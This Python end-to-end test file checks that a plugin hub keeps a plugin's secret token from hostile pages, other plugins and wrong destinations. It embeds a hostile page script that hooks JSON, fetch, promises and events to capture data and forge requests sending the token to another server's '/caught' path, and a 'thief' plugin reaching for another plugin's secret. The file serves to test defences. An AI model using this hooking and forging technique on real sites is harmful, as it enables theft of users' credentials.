"""Secret settings of plugins in requests, end to end: a hostile page and a hostile plugin get none of the values."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator, Iterator
from typing import Any

import pytest

from tests.e2e import live
from tests.e2e.live import Caller, LiveHub
from tests.harness.local_server import LocalServer, QuietHandler
from tests.harness.waiting import eventually
from tests.plugins import packages

TOKEN = 'tk-"Zebra" & <7>/=42'
ADAPTER = """
(() => {
  const filled = (value) => JSON.parse(JSON.stringify(value).replaceAll("<<", "{{"));
  const ask = async ({ url, options }, { request }) => {
    const response = await request(filled(url), filled(options));
    const { status, url: at, headers } = response;
    return { status, url: at, text: await response.text(), type: headers.get("content-type") };
  };
  const box = (globalThis.__openTabs ??= {});
  (box.adapters ??= {}).NAME = { name: "NAME", tools: [{ name: "ask", handle: ask }] };
})();
"""
HOSTILE = """<!doctype html><title>Notes</title><h1>Notes</h1><script>
  // What an adapter uses is replaced: what passes through is kept, and a request is forged with what was seen.
  const loot = window.loot = [];
  const keep = (...values) => {
    for (const value of values) try { loot.push(value?.trim ? value : String(stringify(value))); } catch {}
  };
  const { stringify, parse } = JSON;
  const { dispatchEvent, addEventListener } = EventTarget.prototype;
  window.send = window.fetch.bind(window);
  JSON.parse = (text, ...more) => { keep(text); return parse(text, ...more); };
  JSON.stringify = (value, ...more) => { const text = stringify(value, ...more); keep(text); return text; };
  window.fetch = (...given) => { keep(...given); return send(...given); };
  const then = Promise.prototype.then;
  Promise.prototype.then = function (done, failed) {
    return then.call(this, done && ((value) => { keep(value); return done(value); }), failed);
  };
  window.Response = class extends Response {
    constructor(body, options) { keep(body, options); super(body, options); }
  };
  Object.freeze = (value) => { keep(value); return value; };
  EventTarget.prototype.addEventListener = function (name, listener, ...more) {
    const heard = (event) => { keep(event.detail, event.data); return listener(event); };
    return addEventListener.call(this, name, typeof listener === "function" ? heard : listener, ...more);
  };
  window.forge = null;
  EventTarget.prototype.dispatchEvent = function (event) {
    keep(event.type, event.detail);
    if (window.forge && event.type.endsWith(":request")) {
      const forged = { ...parse(event.detail), id: "forged", ...window.forge };
      const answered = ({ detail }) => { keep(detail); window.answered = detail; };
      addEventListener.call(document, event.type.replace(/:request$/, ":forged"), answered);
      window.forge = null;
      dispatchEvent.call(document, new CustomEvent(event.type, { detail: stringify(forged) }));
    }
    return dispatchEvent.call(this, event);
  };
  addEventListener.call(window, "message", ({ data }) => keep(data));
</script>"""


class Server(LocalServer):
    """A site that keeps what it is sent, and repeats it in its answers."""

    def __init__(self) -> None:
        received: list[str] = []
        self.received = received
        self.elsewhere = ""
        server = self

        class Handler(QuietHandler):
            def answer(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(length).decode()
                received.append(f"{self.path}\n{self.headers}\n{body}")
                moved = {"/leave": f"{server.elsewhere}/caught", "/stay": "/api/after"}.get(self.path)
                self.send_response(307 if moved else 200)
                if moved:
                    self.send_header("Location", moved)
                page = HOSTILE if self.path == "/" else json.dumps({"you sent": str(self.headers), "body": body})
                self.send_header("Content-Type", "text/html" if self.path == "/" else "application/json")
                self.send_header("X-Repeated", self.headers.get("Authorization") or "none")
                self.send_header("Content-Length", str(len(page)))
                self.end_headers()
                self.wfile.write(page.encode())

        super().__init__(Handler)


@pytest.fixture(scope="module")
def servers() -> Iterator[tuple[Server, Server, Server]]:
    """The site that the plugins are for, the API that its plugin may send its token to, and another one."""
    every = (Server(), Server(), Server())
    every[1].elsewhere = every[2].url
    yield every
    for server in every:
        server.stop()


@pytest.fixture(scope="module")
def hub(tmp_path_factory: pytest.TempPathFactory, servers: tuple[Server, Server, Server]) -> Iterator[LiveHub]:
    _, api, other = servers
    folder = tmp_path_factory.mktemp("secrets")
    (folder / "home").mkdir(mode=0o700)
    secret = {"type": "string", "secret": True, "label": "Token"}
    ask = packages.tool("ask", input_schema={"type": "object"})
    schemas = {
        "vault": {"token": {**secret, "sendTo": [api.url], "sendIn": ["Authorization", "url", "body"]}},
        "thief": {"mine": {**secret, "sendTo": [other.url]}},
    }
    for name, schema in schemas.items():
        more: dict[str, Any] = {"urlPatterns": ["http://127.0.0.1/*"], "configSchema": schema, "tools": [ask]}
        packages.folder(folder / name, name, adapter=ADAPTER.replace("NAME", name), **more)
    plugins = [str(folder / name) for name in schemas]
    (folder / "home" / "config.json").write_text(json.dumps({"localPlugins": plugins}))
    started = live.start(folder)
    try:
        live.plugin(started, "configure", "vault", f"token={TOKEN}")
        yield started
    finally:
        live.stop(started)


@pytest.fixture
async def caller(hub: LiveHub, servers: tuple[Server, Server, Server]) -> AsyncIterator[Caller]:
    async with live.caller(hub) as agent:
        tab = await agent.open(f"{servers[0].url}/")
        for plugin in ("vault", "thief"):

            async def is_ready(plugin: str = plugin) -> bool:
                listed = (await agent.get("plugin_list_tabs", plugin=plugin))["plugins"]
                return any(each["tabId"] == tab and each["ready"] for each in listed[0]["tabs"])

            await eventually(is_ready)
        yield agent


async def looted(caller: Caller, site: Server) -> str:
    """Everything that the page saw, as its own site received it: results of scripts are masked."""
    await caller.run("await send('/loot', { method: 'POST', body: loot.join('\\n') })")
    return next(request for request in reversed(site.received) if request.startswith("/loot"))


def has_token(text: str) -> bool:
    return any(part in text for part in ("Zebra", "tk-", "7>/=42"))


async def test_a_request_has_the_secret_and_neither_page_nor_agent_sees_it(
    caller: Caller, hub: LiveHub, servers: tuple[Server, Server, Server]
) -> None:
    site, api, _ = servers
    headers = {"Authorization": "Bearer <<setting:token}}", "Content-Type": "application/json"}
    options = {"method": "POST", "headers": headers, "body": '{"key": "<<setting:token}}", "n": 1}'}
    answer = await caller.call("vault_ask", url=f"{api.url}/api?t=<<setting:token}}}}", options=options)
    assert not answer.get("isError"), answer
    request = api.received[-1]
    assert f"Authorization: Bearer {TOKEN}" in request
    assert json.loads(request.rsplit("\n", 1)[1]) == {"key": TOKEN, "n": 1}
    assert request.startswith("/api?t=tk-%22Zebra%22%20%26%20%3C7%3E%2F%3D42\n")
    assert "Cookie" not in request
    shown = answer["structuredContent"]
    assert (shown["status"], shown["type"]) == (200, "application/json")
    assert "Bearer [secret vault.token]" in shown["text"]
    loot = await looted(caller, site)
    assert "Bearer [secret vault.token]" in loot  # the page did see the exchange
    assert not has_token(loot + json.dumps(answer))
    for log in ("audit.log", "logs/hub.log", "config.json"):
        assert not has_token((hub.home / log).read_text()), log


@pytest.mark.parametrize(
    ("path", "options", "expected"),
    [
        ("{other}/api", {"headers": {"Authorization": "<<setting:token}}"}}, "may not be sent to"),
        ("{api}/api", {"headers": {"X-Note": "<<setting:token}}"}}, "may not be sent in the header x-note"),
        ("{api}/api", {"headers": {"Authorization": "<<secret:token}}"}}, "only its own settings"),
        ("{api}/api", {"headers": {"Authorization": "<<setting:mine}}"}}, "has no secret setting 'mine'"),
        ("{api}/api", {}, "no placeholder"),
        ("{api}/leave", {"headers": {"Authorization": "<<setting:token}}"}}, "Nothing was sent there"),
    ],
)
async def test_a_secret_goes_nowhere_else(
    caller: Caller, servers: tuple[Server, Server, Server], path: str, options: dict[str, Any], expected: str
) -> None:
    _, api, other = servers
    failed = await caller.fail("vault_ask", url=path.format(api=api.url, other=other.url), options=options)
    assert expected in failed["text"]
    assert other.received == []


async def test_a_redirect_on_the_origin_is_followed_with_the_secret(
    caller: Caller, servers: tuple[Server, Server, Server]
) -> None:
    _, api, _ = servers
    answer = await caller.get(
        "vault_ask", url=f"{api.url}/stay", options={"headers": {"Authorization": "<<setting:token}}"}}
    )
    assert (answer["status"], answer["url"]) == (200, f"{api.url}/api/after")
    assert api.received[-1].startswith("/api/after\n")
    assert TOKEN in api.received[-1]


@pytest.mark.parametrize("key", ["token", "vault.token", "plugin/vault/token"])
async def test_a_plugin_does_not_get_the_secret_of_another(
    caller: Caller, servers: tuple[Server, Server, Server], key: str
) -> None:
    _, api, other = servers
    for target in (api, other):
        options = {"headers": {"Authorization": f"<<setting:{key}}}}}"}}
        failed = await caller.fail("thief_ask", url=f"{target.url}/api", options=options)
        assert "Thief has no secret setting" in failed["text"]
    assert other.received == []


async def test_an_agent_does_not_choose_where_a_secret_stands(
    caller: Caller, servers: tuple[Server, Server, Server]
) -> None:
    failed = await caller.fail("vault_ask", url=f"{servers[1].url}/api", options={"body": "note {{setting:token}}"})
    assert "{{setting:…}} may not be in the arguments" in failed["text"]


async def test_a_page_that_forges_a_request_gets_the_secret_nowhere_else_and_only_during_a_call(
    caller: Caller, servers: tuple[Server, Server, Server]
) -> None:
    site, api, other = servers
    forged = {"url": f"{other.url}/caught", "headers": {"Authorization": "{{setting:token}}"}}
    await caller.run("window.forge = args", args=forged)
    options = {"headers": {"Authorization": "<<setting:token}}"}}
    await caller.get("vault_ask", url=f"{api.url}/api", options=options)
    answered = await eventually(lambda: caller.run("return window.answered ?? null"))
    assert "may not be sent to" in answered
    before = len(api.received)
    late = (
        "const at = loot.findLast((each) => each.endsWith(':request')); const channel = at.replace(/:request$/, '');"
        'const id = loot.map((each) => /"dispatchId":"([^"]+)"/.exec(each)?.[1]).findLast(Boolean);'
        "const answer = new Promise((done) => "
        "document.addEventListener(`${channel}:late`, ({ detail }) => done(detail)));"
        "const detail = { dispatchId: id, id: 'late', url: args.url, method: 'GET', headers: args.headers };"
        "document.dispatchEvent(new CustomEvent(at, { detail: JSON.stringify(detail) })); return await answer;"
    )
    answer = await caller.run(late, args={**forged, "url": f"{api.url}/api"})
    assert "No tool of the plugin is running" in answer
    assert len(api.received) == before
    assert other.received == []
    assert not has_token(await looted(caller, site))
